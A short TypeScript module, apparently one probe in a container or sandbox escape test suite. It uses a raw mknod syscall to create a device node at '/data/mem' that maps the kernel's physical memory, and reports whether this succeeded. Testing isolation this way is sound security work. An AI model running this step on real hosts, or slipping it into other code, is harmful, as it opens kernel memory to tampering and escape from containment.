// Makes a device node for the kernel's memory.
import { cString, pointer, syscall, type Target } from "../attack.ts";

export const layer = "namespaces";

export default function (_target: Target): string | null {
  const path = cString("/data/mem");
  return syscall(133, pointer(path), 0o020600, (1 << 8) | 1) === 0
    ? "made"
    : null;
}
